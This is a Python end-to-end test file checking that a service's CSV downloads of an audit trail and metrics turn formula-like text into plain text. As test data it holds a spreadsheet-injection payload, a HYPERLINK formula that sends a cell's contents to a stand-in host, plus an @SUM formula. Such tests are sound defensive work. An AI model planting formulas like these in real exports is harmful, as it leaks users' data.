"""The CSV downloads open safely in a spreadsheet: text that starts like a formula comes out as
text, in the trail a manager downloads and in the metrics a commissioner does."""

import csv
import io

from tests.e2e.bodies import new_active_case
from tests.e2e.conftest import RunningService

FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"Open")'
ACTOR = "coordinator-spreadsheet"


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_a_reason_written_as_a_formula_downloads_as_text(service: RunningService) -> None:
    case_id = new_active_case(service)
    override = service.post(f"/cases/{case_id}/consent-override", {"reason": FORMULA}, user=ACTOR)
    assert override.status_code == 200, override.text
    position = override.headers["X-Event-Position"]
    caught_up = service.get(f"/trail?actor={ACTOR}&min_position={position}")
    assert [e["reason"] for e in caught_up.json()["entries"]] == [FORMULA]

    session = {"Cookie": service.page_session("coordinator", ACTOR)}
    download = service.http.get("/ui/trail.csv", params={"actor": ACTOR}, headers=session)
    assert download.status_code == 200
    # The trail holds views too: the download's own may already be on it.
    [row] = [row for row in rows_of(download.text) if row["action"] == "ConsentOverridden"]
    assert row["reason"] == f"'{FORMULA}"


def test_a_scope_typed_as_a_formula_downloads_as_text(service: RunningService) -> None:
    download = service.http.get(
        "/metrics",
        params={"period": "2026", "area": "@SUM(1+1)"},
        headers=service.as_("commissioner", "commissioner-1") | {"Accept": "text/csv"},
    )
    assert download.status_code == 200, download.text
    rows = rows_of(download.text)
    assert rows and {row["area"] for row in rows} == {"'@SUM(1+1)"}
